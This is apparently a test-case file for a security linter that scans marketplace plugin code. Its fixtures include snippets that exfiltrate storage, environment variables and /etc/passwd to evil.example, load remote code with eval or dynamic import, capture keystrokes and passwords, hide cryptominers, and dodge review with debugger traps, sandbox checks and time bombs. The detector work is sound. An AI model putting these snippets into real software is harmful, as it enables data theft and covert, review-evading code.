import { fileCases, mainCases, manifestCases, type RuleCase } from './rule-case.ts';

const command = (body: string): string => `export const commands = { async measure(input) { ${body} } };`;
const withNetwork = (body: string): string =>
  `import { network, storage, settings } from "marketplace"; ${command(body)}`;
const NETWORK = {
  permissions: [
    { capability: 'network', hosts: ['api.example.com'], reason: 'Asks for quotes.' },
    { capability: 'storage', reason: 'Keeps the last quotes.' },
  ],
};

export const networkCases: readonly RuleCase[] = [
  ...mainCases('hidden-network', [
    ['error', command('await fetch("https://evil.example/x");')],
    [
      'error',
      command('const x = new XMLHttpRequest(); x.open("POST", "https://evil.example"); x.send(input);'),
    ],
    ['error', command('new WebSocket("wss://evil.example").send(input);')],
    ['error', command('navigator.sendBeacon("https://evil.example", input);')],
    ['error', command('new Image().src = "https://evil.example/?d=" + input;')],
    ['error', `import https from "node:https"; ${command('https.get("https://evil.example");')}`],
    ['error', `import net from "net"; ${command('net.connect(443, "evil.example");')}`],
    ['error', command('await globalThis["fe" + "tch"]("https://evil.example");')],
    ['error', command('await fetch(input.url);')],
    [
      'error',
      `class Beacon { constructor() { this.url = "https://evil.example"; } send(x) { return fetch(this.url, { body: x }); } } ${command('return new Beacon().send(input);')}`,
    ],
    ['error', command('location.href = "https://evil.example/?" + input;')],
    [
      'error',
      command(
        'const form = document.createElement("form"); form.action = "https://evil.example"; form.submit();',
      ),
    ],
    ['error', command('if (typeof fetch === "function") await fetch("https://evil.example");')],
    [
      'warning',
      `function load(url) { const x = new XMLHttpRequest(); x.open("GET", url); x.send(); } const library = { load }; ${command('return library;')}`,
    ],
    [
      'warning',
      command('if (typeof Worker !== "undefined" && input.parallel) return new Worker(input.script);'),
    ],
    [
      null,
      `const cache = { fetch: (key) => key }; ${command('return cache.fetch("https://evil.example");')}`,
    ],
    [null, `async function fetch(x) { return x; } ${command('return fetch("https://evil.example");')}`],
    [null, command('return "see https://docs.example.org";')],
  ]),
  ...mainCases(
    'host-undeclared',
    [
      ['error', withNetwork('await network.fetch("https://other.example.org/x");')],
      [
        'error',
        withNetwork(
          'const host = "other" + ".example.org"; await network.fetch(`https://${host}/x/${input.id}`);',
        ),
      ],
      ['error', withNetwork('await network.fetch("https://api.example.com.evil.org/x");')],
      ['error', withNetwork('await network.fetch("https://api.example.com@evil.org/x");')],
      ['error', withNetwork('await network.fetch("http://10.0.0.1/x");')],
      [
        'error',
        `import * as market from "marketplace"; const { fetch: get } = market.network; ${command('await get("https://other.example.org/x");')}`,
      ],
      ['warning', withNetwork('await network.fetch(`https://${input.host}/x`);')],
      ['warning', withNetwork('await network.fetch("http://api.example.com/x");')],
      [null, withNetwork('await network.fetch("https://api.example.com/x");')],
      [
        null,
        withNetwork('await network.fetch(`https://api.example.com/q/${input.symbol}?from=${input.from}`);'),
      ],
      [
        null,
        withNetwork('const BASE = "https://api.example.com"; await network.fetch(BASE + "/x/" + input.id);'),
      ],
      [
        null,
        withNetwork('const url = new URL("/x", "https://api.example.com"); await network.fetch(url.href);'),
      ],
    ],
    NETWORK,
  ),
  ...mainCases('capability-undeclared', [
    [
      'error',
      'import { storage } from "marketplace"; export const commands = { measure: () => storage.get("x") };',
    ],
    [
      'error',
      'import * as host from "marketplace"; export const commands = { measure: () => host.notify.show("a", "b") };',
    ],
    [
      'error',
      'import { marketData } from "marketplace"; const { bars } = marketData; export const commands = { measure: () => bars("EURUSD", {}) };',
    ],
    [null, 'import { storage } from "marketplace"; export const commands = { measure: () => 1 };'],
    [
      null,
      'import { log, clock, settings, report } from "marketplace"; export const commands = { measure: () => { log.info(settings.get("x")); report.markdown("x"); return clock.now(); } };',
    ],
  ]),
  {
    rule: 'capability-unused',
    says: 'warning',
    manifest: { permissions: [{ capability: 'storage', reason: 'Keeps the last measurement.' }] },
  },
  {
    rule: 'capability-unused',
    says: null,
    main: 'import { storage } from "marketplace"; export const commands = { measure: () => storage.get("x") };',
    manifest: { permissions: [{ capability: 'storage', reason: 'Keeps the last measurement.' }] },
  },
  ...mainCases(
    'exfiltration',
    [
      [
        'error',
        withNetwork(
          'const all = await storage.get("keys"); await network.fetch("https://other.example.org/", { method: "POST", body: JSON.stringify(all) });',
        ),
      ],
      [
        'error',
        withNetwork(
          'await network.fetch("https://api.example.com/", { method: "POST", body: JSON.stringify(process.env) });',
        ),
      ],
      [
        'error',
        `import fs from "fs"; ${command('await fetch("https://evil.example/" + fs.readFileSync("/etc/passwd"));')}`,
      ],
      [
        'error',
        command('await fetch("https://evil.example/c?d=" + encodeURIComponent(JSON.stringify(input)));'),
      ],
      [
        'error',
        withNetwork(
          'const data = {}; for (const key of await storage.keys()) data[key] = await storage.get(key); await network.fetch("https://other.example.org/", { method: "POST", body: JSON.stringify(data) });',
        ),
      ],
      ['error', withNetwork('await network.fetch(`https://${await storage.get("k")}.evil.example/`);')],
      [
        'warning',
        withNetwork('await network.fetch("https://api.example.com/?q=" + (await storage.get("note")));'),
      ],
      [
        null,
        withNetwork(
          'await network.fetch("https://api.example.com/sync", { method: "POST", body: JSON.stringify(await storage.get("list")) });',
        ),
      ],
      [
        null,
        withNetwork(
          'await network.fetch("https://api.example.com/x", { headers: { authorization: settings.get("apiKey") } });',
        ),
      ],
    ],
    NETWORK,
  ),
  ...mainCases('collecting-service', [
    ['error', withNetwork('await network.fetch("https://webhook.site/abc", { method: "POST", body: "x" });')],
    ['notice', withNetwork('await network.fetch("https://api.telegram.org/bot/sendMessage");')],
    ['notice', command('return ["https://webhook.site/abc"];')],
    [null, withNetwork('await network.fetch("https://api.example.com/");')],
  ]),
  ...mainCases(
    'remote-code',
    [
      [
        'error',
        withNetwork(
          'const answer = await network.fetch("https://api.example.com/x"); return new Function(answer.text)();',
        ),
      ],
      [
        'error',
        withNetwork('return network.fetch("https://api.example.com/x").then((answer) => eval(answer.text));'),
      ],
      [
        'error',
        withNetwork(
          'const { text } = await network.fetch("https://api.example.com/x"); await storage.set("code", text); return eval(await storage.get("code"));',
        ),
      ],
      ['error', command('return import("https://evil.example/x.js");')],
      ['error', command('importScripts("https://evil.example/x.js");')],
      ['error', 'import run from "https://evil.example/x.js"; export const commands = { measure: run };'],
      [
        'error',
        command(
          'const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.head.appendChild(s);',
        ),
      ],
      [null, withNetwork('return JSON.parse((await network.fetch("https://api.example.com/x")).text);')],
    ],
    NETWORK,
  ),
  ...fileCases('remote-code', [
    ['error', { 'assets/page.html': '<script src="https://evil.example/x.js"></script>' }],
    [null, { 'assets/page.html': '<script src="app.js"></script>', 'assets/app.js': '' }],
  ]),
  ...mainCases('cryptomining', [
    ['error', command("return ['strat', 'um+t', 'cp://', 'po', 'ol.example.com'].join('');")],
    ['error', command('new CoinHive.Anonymous("key").start();')],
    ['error', command('new WebSocket("wss://pool.supportxmr.com:443");')],
    [
      'error',
      command(
        'let nonce = 0; while (true) { const h = sha256(input.block + nonce); if (h.startsWith("0000")) return nonce; nonce++; } function sha256(x) { return x; }',
      ),
    ],
    ['notice', command('return ["coinhive.com"].includes(input.host);')],
    [null, command('let nonce = 0; return () => nonce++;')],
    [null, command('const mined = input.filter((x) => x.determined); return mined;')],
  ]),
  ...mainCases('input-capture', [
    [
      'error',
      `const typed = []; document.addEventListener("keydown", (event) => typed.push(event.key)); ${command('await fetch("https://evil.example", { method: "POST", body: typed.join("") });')}`,
    ],
    ['error', command('return navigator.clipboard.readText();')],
    ['error', command('return document.querySelector("input[type=password]").value;')],
    [
      'notice',
      command(
        'if (typeof document !== "undefined") document.addEventListener("keydown", (event) => event.preventDefault());',
      ),
    ],
    [null, command('input.on("paste-done", () => 1);')],
  ]),
  ...mainCases('dom-injection', [
    ['error', command('document.body.innerHTML = input.html;')],
    ['error', command('document.write("<script>" + input + "</script>");')],
    ['error', command('input.element.insertAdjacentHTML("beforeend", input.html);')],
    ['warning', command('if (typeof document !== "undefined") document.body.innerHTML = input.html;')],
    ['notice', command('document.body.innerHTML = "<b>done</b>";')],
    [null, command('document.body.innerHTML = "";')],
    [null, command('document.body.textContent = input.text;')],
  ]),
  ...mainCases('debugger-trap', [
    ['error', `setInterval(() => { debugger; }, 50); ${command('return 1;')}`],
    ['error', command('while (input.x) { debugger; }')],
    ['error', command('setInterval(new Function("debugger"), 50);')],
    ['error', command('const a = Date.now(); debugger; if (Date.now() - a > 100) return null;')],
    ['warning', command('debugger; return 1;')],
    [null, command('return "debugger";')],
  ]),
  ...mainCases(
    'analysis-detection',
    [
      ['error', withNetwork('if (!navigator.webdriver) await network.fetch("https://api.example.com/");')],
      [
        'error',
        withNetwork(
          'if (globalThis.__DRY_RUN__ || isSandbox()) return; await network.fetch("https://api.example.com/"); function isSandbox() { return false; }',
        ),
      ],
      [
        'error',
        withNetwork(
          'if (Date.now() > Date.UTC(2027, 0, 1)) { await network.fetch("https://api.example.com/"); }',
        ),
      ],
      [
        'error',
        `import { clock, network } from "marketplace"; ${command('const a = clock.now(); const b = clock.now(); if (a === b) return; await network.fetch("https://api.example.com/");')}`,
      ],
      ['warning', command('return navigator.webdriver ? 1 : 2;')],
      [
        null,
        `import { marketData } from "marketplace"; ${command('const bars = await marketData.bars("EURUSD", {}); return bars.synthetic ? "synthetic" : "real";')}`,
      ],
      [null, command('const now = Date.now(); return now - input.time > 86400000 ? "old" : "new";')],
    ],
    NETWORK,
  ),
  ...manifestCases('collecting-service', [
    [
      'warning',
      { permissions: [{ capability: 'network', hosts: ['webhook.site'], reason: 'Sends reports.' }] },
    ],
  ]),
];
